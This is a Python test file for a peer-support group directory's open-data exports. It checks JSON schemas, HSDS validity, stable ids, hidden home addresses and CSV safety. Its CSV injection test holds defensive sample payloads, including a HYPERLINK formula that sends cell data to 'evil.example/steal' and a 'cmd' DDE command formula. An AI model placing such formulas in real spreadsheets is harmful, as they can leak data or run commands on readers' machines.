"""Open data: every group and event round-trips into each export with the same ids and contact
details; the JSON validates against its published schemas and HSDS against Open Referral's;
the CSV is safe to open in a spreadsheet; homes never leak; and a real build publishes the files."""

from __future__ import annotations

import csv
import dataclasses
import io
import json
import re
import uuid
from datetime import date
from pathlib import Path
from typing import Any

import pytest
from jsonschema import Draft202012Validator, FormatChecker
from jsonschema.exceptions import ValidationError

from peerdir import paths
from peerdir.models import DAYS
from peerdir.render import SiteSettings, render_site
from peerdir.render.meeting_guide import meeting_guide_day
from peerdir.render.spreadsheet import FORMULA_STARTS, spreadsheet_safe
from peerdir.validate import Directory, load_directory

from .conftest import FIXTURES, REPO, TODAY, check_golden, run_cli


def readable(data_file: str | bytes) -> str:
    """A compact JSON data file, indented for its golden file (the file itself is written compact)."""
    return json.dumps(json.loads(data_file), indent=2, ensure_ascii=False) + "\n"

# Open Referral's schema, committed as test data (its README says where and when it was taken).
HSDS_SCHEMA = Path(__file__).resolve().parent / "data" / "hsds-3" / "compiled_service_with_definitions.json"
SITE_URL = "https://example.org/peer-support/"
SETTINGS = SiteSettings(today=date.fromisoformat(TODAY), site_url=SITE_URL,
                        repo_url="https://github.com/example/peer-support", site_name="Parent and carer peer support")
FILES = (paths.GROUPS_JSON, paths.GROUPS_JSON_SCHEMA, paths.EVENTS_JSON, paths.EVENTS_JSON_SCHEMA,
         paths.GROUPS_CSV, paths.HSDS_SERVICES, paths.MEETING_GUIDE)


class Exports:
    """The open-data files of one directory, parsed."""

    def __init__(self, directory: Directory, settings: SiteSettings = SETTINGS) -> None:
        self.directory = directory
        self.files = render_site(directory, settings)
        self.groups = json.loads(self.files[paths.GROUPS_JSON])
        self.events = json.loads(self.files[paths.EVENTS_JSON])
        self.hsds = json.loads(self.files[paths.HSDS_SERVICES])
        self.meetings = json.loads(self.files[paths.MEETING_GUIDE])
        raw = self.files[paths.GROUPS_CSV]
        assert isinstance(raw, bytes) and raw.startswith(b"\xef\xbb\xbf"), "the CSV starts with a UTF-8 BOM"
        self.csv_rows = list(csv.DictReader(io.StringIO(raw.decode("utf-8-sig"), newline="")))

    def text(self) -> str:
        """Every export as one string, for checking what must never appear in any of them."""
        return "\n".join(self.files[p].decode("utf-8-sig") if isinstance(self.files[p], bytes) else self.files[p]
                         for p in (*FILES, paths.OPEN_DATA))


def load(root: Path) -> Directory:
    result = load_directory(root)
    assert result.ok, result.problems
    return result.directory


@pytest.fixture(scope="module")
def sample() -> Exports:
    return Exports(load(REPO))


@pytest.fixture(scope="module")
def small() -> Exports:
    return Exports(load(FIXTURES / "valid"))


def with_group(directory: Directory, group_id: str, **changes: Any) -> Directory:
    groups = tuple(dataclasses.replace(g, **changes) if g.id == group_id else g for g in directory.groups)
    return dataclasses.replace(directory, groups=groups)


def by_id(records: list[dict[str, Any]]) -> dict[str, dict[str, Any]]:
    return {record["id"]: record for record in records}


# --------------------------------------------------------------------------- groups.json and events.json


@pytest.mark.parametrize("which", ["sample", "small"])
def test_every_group_and_event_is_in_the_json_with_its_contact_details(which: str, request) -> None:
    exports: Exports = request.getfixturevalue(which)
    groups = by_id(exports.groups["groups"])
    assert set(groups) == {g.id for g in exports.directory.groups}
    for group in exports.directory.groups:
        exported = groups[group.id]
        assert exported["name"] == group.name and exported["status"] == group.status
        for field in ("website", "email", "phone", "phone_note", "social"):
            assert exported["contact"].get(field) == getattr(group.contact, field), (group.id, field)
        assert exported["url"] == f"{SITE_URL}groups/{group.id}/"
        assert exported["last_verified"] == group.last_verified.isoformat()
    events = by_id(exports.events["events"])
    assert set(events) == {e.id for e in exports.directory.events}
    for event in exports.directory.events:
        registration = event.register
        for field in ("url", "email", "phone"):
            expected = getattr(registration, field) if registration else None
            assert events[event.id].get("register", {}).get(field) == expected, (event.id, field)


def test_json_keeps_every_field_of_a_full_group(small: Exports) -> None:
    riverside = by_id(small.groups["groups"])["riverside-parents"]
    assert riverside["location"] == {"name": "Riverside Community Centre", "address": "1 Example Street, London",
                                     "postcode": "SW10 9NH", "lat": 51.4843, "lon": -0.1817, "approximate": False}
    assert riverside["schedule"][1] == {"day": "monday", "start": "19:00", "end": "20:30", "frequency": "monthly",
                                        "week": "first", "note": "Dads' evening"}
    assert riverside["languages"] == ["English", "Arabic"] and riverside["alert"] == "No meeting on 24 December"
    assert small.groups["schema_version"] == "1.0" and small.groups["generated"] == TODAY
    assert "licence" not in small.groups  # none chosen: the page says to ask
    terms = {t["id"]: t["name"] for t in small.groups["vocabularies"]["areas"]}
    assert terms["kensington-and-chelsea"] == "Kensington and Chelsea"


def schema_of(exports: Exports, path: str) -> Draft202012Validator:
    schema = json.loads(exports.files[path])
    Draft202012Validator.check_schema(schema)
    return Draft202012Validator(schema, format_checker=FormatChecker())


@pytest.mark.parametrize("which", ["sample", "small"])
def test_json_exports_validate_against_their_published_schemas(which: str, request) -> None:
    exports: Exports = request.getfixturevalue(which)
    schema_of(exports, paths.GROUPS_JSON_SCHEMA).validate(exports.groups)
    schema_of(exports, paths.EVENTS_JSON_SCHEMA).validate(exports.events)


def test_the_schemas_catch_what_they_promise(small: Exports) -> None:
    validator = schema_of(small, paths.GROUPS_JSON_SCHEMA)
    broken = json.loads(small.files[paths.GROUPS_JSON])
    del broken["groups"][0]["id"]
    with pytest.raises(ValidationError, match="'id' is a required property"):
        validator.validate(broken)
    home = json.loads(small.files[paths.GROUPS_JSON])
    by_id(home["groups"])["old-friends"]["location"]["address"] = "12 Private Road"
    with pytest.raises(ValidationError):
        validator.validate(home)
    versioned = json.loads(small.files[paths.EVENTS_JSON])
    versioned["schema_version"] = "2.0"
    with pytest.raises(ValidationError):
        schema_of(small, paths.EVENTS_JSON_SCHEMA).validate(versioned)


def test_a_licence_set_in_mkdocs_yml_is_published(small: Exports) -> None:
    licensed = Exports(small.directory, dataclasses.replace(SETTINGS, data_licence="CC BY 4.0"))
    assert licensed.groups["licence"] == "CC BY 4.0" and licensed.events["licence"] == "CC BY 4.0"
    schema_of(licensed, paths.GROUPS_JSON_SCHEMA).validate(licensed.groups)
    assert "reuse the data under this licence: CC BY 4\\.0" in licensed.files[paths.OPEN_DATA]


def test_without_a_site_url_page_addresses_are_relative_to_the_site(small: Exports) -> None:
    relative = Exports(small.directory, SiteSettings(today=date.fromisoformat(TODAY)))
    assert by_id(relative.groups["groups"])["dads-online"]["url"] == "groups/dads-online/"
    assert relative.groups["groups"][0]["url"] == relative.csv_rows[0]["Page on this site"]
    assert all("url" not in meeting for meeting in relative.meetings)  # the feed wants full addresses


# --------------------------------------------------------------------------- privacy


def test_a_home_never_leaks_into_any_export(small: Exports) -> None:
    home = dataclasses.replace(small.directory.group("old-friends").location, name="Sam's flat", lat=51.49123,
                               lon=-0.19456)
    exports = Exports(with_group(small.directory, "old-friends", location=home))
    everything = exports.text()
    for secret in ("Sam's flat", "Sam\\'s flat", "51.49123", "-0.19456", "51.4912", "-0.1946"):
        assert secret not in everything, secret
    assert by_id(exports.groups["groups"])["old-friends"]["location"] == {"lat": 51.49, "lon": -0.19,
                                                                          "approximate": True}
    row = next(r for r in exports.csv_rows if r["ID"] == "old-friends")
    assert (row["Venue"], row["Address"], row["Postcode"], row["Latitude"]) == ("", "", "", "51.49")


# --------------------------------------------------------------------------- groups.csv


@pytest.mark.parametrize("which", ["sample", "small"])
def test_csv_has_one_row_per_group_with_its_contact_details(which: str, request) -> None:
    exports: Exports = request.getfixturevalue(which)
    rows = {row["ID"]: row for row in exports.csv_rows}
    assert list(rows) == sorted(g.id for g in exports.directory.groups)
    for group in exports.directory.groups:
        row = rows[group.id]
        assert row["Name"] == spreadsheet_safe(group.name)
        assert row["Website"] == spreadsheet_safe(group.contact.website or "")
        assert row["E-mail"] == spreadsheet_safe(group.contact.email or "")
        assert row["Phone"] == spreadsheet_safe(group.contact.phone or "")
        assert row["Status"] == group.status
    riverside = rows.get("riverside-parents")
    if riverside:
        assert riverside["Languages"] == "English; Arabic"
        assert riverside["Types of support"] == "Peer support groups; Peer-led"


FORMULAS = {
    "name": '=HYPERLINK("https://evil.example/steal?d="&A1,"Click me")',
    "summary": "+SUM(1,1)",
    "organisation": "-2+3+cmd|' /C calc'!A0",
    "cost": "@SUM(A1:A9)",
    "referral": "\t=1+1",
    "alert": "\r=1+1",
}


def test_csv_injection_is_defused(small: Exports) -> None:
    exports = Exports(with_group(small.directory, "dads-online", **FORMULAS))
    row = next(r for r in exports.csv_rows if r["ID"] == "dads-online")
    assert row["Name"] == "'" + FORMULAS["name"]
    assert row["Summary"] == "'+SUM(1,1)" and row["Cost"] == "'@SUM(A1:A9)"
    assert row["Organisation"] == "'" + FORMULAS["organisation"]
    assert row["Referral"] == "'\t=1+1" and row["Notice"] == "'\r=1+1"
    numbers = {"Latitude", "Longitude"}  # written by us as numbers: "-0.19" is a number, not a formula
    for parsed in exports.csv_rows:
        for heading, cell in parsed.items():
            assert heading in numbers or not cell.startswith(FORMULA_STARTS), (heading, cell)


@pytest.mark.parametrize("text, expected", [
    ("=1+1", "'=1+1"), ("+44 20 7946 0000", "'+44 20 7946 0000"), ("-x", "'-x"), ("@x", "'@x"),
    ("\tx", "'\tx"), ("\rx", "'\rx"), ("Riverside", "Riverside"), ("a=b", "a=b"), ("", ""),
])
def test_spreadsheet_safe(text: str, expected: str) -> None:
    assert spreadsheet_safe(text) == expected


# --------------------------------------------------------------------------- Open Referral (HSDS 3)


@pytest.fixture(scope="module")
def hsds_validator() -> Draft202012Validator:
    schema = json.loads(HSDS_SCHEMA.read_text(encoding="utf-8"))
    Draft202012Validator.check_schema(schema)
    return Draft202012Validator(schema, format_checker=FormatChecker())


@pytest.mark.parametrize("which", ["sample", "small"])
def test_every_hsds_service_validates_against_open_referrals_schema(which: str, request, hsds_validator) -> None:
    exports: Exports = request.getfixturevalue(which)
    assert exports.hsds, "no services"
    for service in exports.hsds:
        errors = sorted(hsds_validator.iter_errors(service), key=str)
        assert not errors, f"{service['name']}: " + "; ".join(f"{list(e.path)}: {e.message}" for e in errors)
        for url in find_values(service, ("url", "website", "uri", "schedule_link", "term_uri")):
            assert re.match(r"^https?://[^\s/]+\.[^\s]+$", url), url  # `uri` needs a package jsonschema lacks


def test_the_hsds_schema_catches_a_broken_service(small: Exports, hsds_validator) -> None:
    service = json.loads(json.dumps(small.hsds[0]))
    service["status"] = "open"
    service["schedules"][0]["freq"] = "DAILY"
    service["id"] = "not-a-uuid"
    messages = {e.message for e in hsds_validator.iter_errors(service)}
    assert len(messages) == 3, messages


def find_values(value: Any, keys: tuple[str, ...]) -> list[Any]:
    if isinstance(value, dict):
        return [v for k, v in value.items() if k in keys and isinstance(v, str)] + [
            found for v in value.values() for found in find_values(v, keys)]
    if isinstance(value, list):
        return [found for item in value for found in find_values(item, keys)]
    return []


@pytest.mark.parametrize("which", ["sample", "small"])
def test_every_open_group_is_an_hsds_service_with_its_contact_details(which: str, request) -> None:
    exports: Exports = request.getfixturevalue(which)
    services = {s["name"]: s for s in exports.hsds}
    open_groups = [g for g in exports.directory.groups if g.status != "closed"]
    assert len(exports.hsds) == len(open_groups) == len(services)
    for group in open_groups:
        service = services[group.name]
        assert service["id"] == str(uuid.uuid5(uuid.UUID("401663e2-437e-4c11-989b-625c65a63fc3"),
                                               f"service:{group.id}"))
        assert service.get("email") == group.contact.email
        assert service["url"] == group.contact.website or f"{SITE_URL}groups/{group.id}/"
        assert [p["number"] for p in service.get("phones", [])] == ([group.contact.phone] if group.contact.phone else [])
        contacts = service.get("contacts", [])
        assert [c.get("email") for c in contacts] == ([group.contact.email] if group.contact.email else [None] * len(contacts))
        assert service["organization"]["name"] == (group.organisation or group.name)
        assert service["status"] == group.status.replace("-", " ")


def test_hsds_ids_are_unique_and_stable_across_builds(sample: Exports) -> None:
    later = Exports(sample.directory, SiteSettings(today=date(2027, 3, 1)))
    assert [s["id"] for s in later.hsds] == [s["id"] for s in sample.hsds]
    ids: list[str] = []

    def collect(value: Any, parent: str) -> None:
        if isinstance(value, dict):
            if "id" in value and parent not in ("organization", "taxonomy_term"):  # shared on purpose
                ids.append(value["id"])
            for key, item in value.items():
                collect(item, key)
        elif isinstance(value, list):
            for item in value:
                collect(item, parent)

    collect(sample.hsds, "")
    assert len(ids) == len(set(ids)) > len(sample.hsds)
    organisations = {}
    for service in sample.hsds:
        organisations.setdefault(service["organization"]["id"], service["organization"])
        assert organisations[service["organization"]["id"]] == service["organization"]


def test_hsds_schedules_follow_the_meetings(small: Exports) -> None:
    services = {s["name"]: s for s in small.hsds}
    riverside = services["Riverside Parents Group"]["schedules"]
    assert {k: riverside[0][k] for k in ("freq", "interval", "byday", "opens_at", "closes_at")} == {
        "freq": "WEEKLY", "interval": 1, "byday": "WE", "opens_at": "10:30", "closes_at": "12:00"}
    assert {k: riverside[1][k] for k in ("freq", "byday", "opens_at")} == {"freq": "MONTHLY", "byday": "1MO",
                                                                         "opens_at": "19:00"}
    assert riverside[2] == {"id": riverside[2]["id"], "service_id": riverside[2]["service_id"],
                            "description": "No meetings in school holidays"}
    circle = services["The Old Friends Circle"]["schedules"][0]
    assert (circle["interval"], circle["dtstart"], circle["byday"]) == (2, "2026-01-08", "TH")
    address = services["Riverside Parents Group"]["service_at_locations"][0]["location"]["addresses"][0]
    assert (address["address_1"], address["city"], address["postal_code"], address["country"]) == (
        "1 Example Street", "London", "SW10 9NH", "GB")


def test_closed_groups_are_in_the_json_and_csv_but_not_the_feeds(small: Exports) -> None:
    exports = Exports(with_group(small.directory, "dads-online", status="closed"))
    assert by_id(exports.groups["groups"])["dads-online"]["status"] == "closed"
    assert any(row["ID"] == "dads-online" and row["Status"] == "closed" for row in exports.csv_rows)
    assert "Dads Online" not in {s["name"] for s in exports.hsds}
    assert not [m for m in exports.meetings if m["slug"].startswith("dads-online")]


# --------------------------------------------------------------------------- Meeting Guide


def test_meeting_guide_golden(small: Exports) -> None:
    check_golden("open-data/meeting-guide.json", readable(small.files[paths.MEETING_GUIDE]))


def test_open_data_page_golden(small: Exports) -> None:
    check_golden("open-data/index.md", small.files[paths.OPEN_DATA])


@pytest.mark.parametrize("day, number", [("sunday", 0), ("monday", 1), ("tuesday", 2), ("wednesday", 3),
                                         ("thursday", 4), ("friday", 5), ("saturday", 6)])
def test_meeting_guide_counts_days_from_sunday(day: str, number: int, small: Exports) -> None:
    meeting = dataclasses.replace(small.directory.group("riverside-parents").schedule[0], day=day)
    assert meeting_guide_day(meeting) == number
    assert len(DAYS) == 7


@pytest.mark.parametrize("which", ["sample", "small"])
def test_meeting_guide_has_each_weekly_meeting_of_each_open_group(which: str, request) -> None:
    exports: Exports = request.getfixturevalue(which)
    slugs = [m["slug"] for m in exports.meetings]
    assert len(slugs) == len(set(slugs)) and all(re.fullmatch(r"[a-z0-9-]{1,64}", s) for s in slugs)
    expected = sorted((g.id, (DAYS.index(m.day) + 1) % 7, f"{m.start:%H:%M}") for g in exports.directory.groups
                      if g.status != "closed" for m in g.schedule if m.frequency == "weekly")
    assert sorted((m["url"].split("/")[-2], m["day"], m["time"]) for m in exports.meetings) == expected
    groups = {g.id: g for g in exports.directory.groups}
    for meeting in exports.meetings:
        group = groups[meeting["url"].split("/")[-2]]
        assert meeting["slug"].startswith(group.id + "-") and meeting["name"] == group.name
        assert meeting.get("contact_1_email") == group.contact.email
        assert meeting.get("contact_1_phone") == group.contact.phone
        assert (f"Website: {group.contact.website}" in meeting["notes"]) == bool(group.contact.website)
        assert re.fullmatch(r"\d{4}-\d{2}-\d{2} \d{2}:\d{2}:\d{2}", meeting["updated"])
        assert ("ONL" in meeting.get("types", [])) == ("online" in group.formats)
        assert ("TC" in meeting.get("types", [])) == (group.status == "temporarily-closed")
        if group.location is None or group.location.approximate:
            assert meeting["approximate"] == "yes"
            assert not {"latitude", "longitude", "location"} & set(meeting)
        else:
            assert meeting["approximate"] == "no" and meeting["latitude"] == group.location.lat


def test_meeting_guide_types_and_places(small: Exports) -> None:
    meetings = {m["slug"]: m for m in small.meetings}
    assert set(meetings) == {"dads-online-tuesday-2000", "riverside-parents-wednesday-1030"}
    wednesday = meetings["riverside-parents-wednesday-1030"]
    assert (wednesday["day"], wednesday["time"], wednesday["end_time"]) == (3, "10:30", "12:00")
    assert wednesday["formatted_address"] == "1 Example Street, London, SW10 9NH, UK"
    assert wednesday["types"] == ["EN"] and wednesday["region"] == "Kensington and Chelsea"
    online = meetings["dads-online-tuesday-2000"]
    assert online["types"] == ["ONL"] and online["formatted_address"] == "UK" and online["approximate"] == "yes"
    # A home-based group that meets weekly: only its area.
    weekly = dataclasses.replace(small.directory.group("old-friends").schedule[0], frequency="weekly", starting=None)
    exports = Exports(with_group(small.directory, "old-friends", schedule=(weekly,)))
    home = next(m for m in exports.meetings if m["slug"] == "old-friends-thursday-1930")
    assert home["formatted_address"] == "Kensington and Chelsea, UK" and home["approximate"] == "yes"
    assert home["types"] == ["TC"] and "latitude" not in home and "location" not in home


def test_meeting_guide_slugs_stay_unique_for_two_meetings_at_the_same_time(small: Exports) -> None:
    meeting = small.directory.group("dads-online").schedule[0]
    exports = Exports(with_group(small.directory, "dads-online", schedule=(meeting, meeting)))
    slugs = [m["slug"] for m in exports.meetings]
    assert len(slugs) == len(set(slugs)) == 3


# --------------------------------------------------------------------------- a real build


def test_a_real_build_publishes_the_open_data_files(small_project: Path) -> None:
    result = run_cli("--root", str(small_project), "build", "--today", TODAY, "--site-url", SITE_URL)
    assert result.code == 0, result.stderr
    site = small_project / "site"
    for path in FILES:
        assert (site / path).is_file(), path
    feed = json.loads((site / paths.MEETING_GUIDE).read_text(encoding="utf-8"))
    check_golden("open-data/meeting-guide.json", readable((site / paths.MEETING_GUIDE).read_text(encoding="utf-8")))
    assert {m["url"] for m in feed} <= {f"{SITE_URL}{paths.url_of(paths.group_page(g))}"
                                        for g in ("riverside-parents", "dads-online")}
    page = (site / "data" / "index.html").read_text(encoding="utf-8")
    links = set(re.findall(r'href="([^"#:]+\.(?:json|csv))"', page))
    assert links == {paths.link(paths.OPEN_DATA, p) for p in FILES}
    for link in links:
        assert (site / "data" / link).is_file(), link
    assert 'href="../data/"' in (site / "about" / "index.html").read_text(encoding="utf-8")
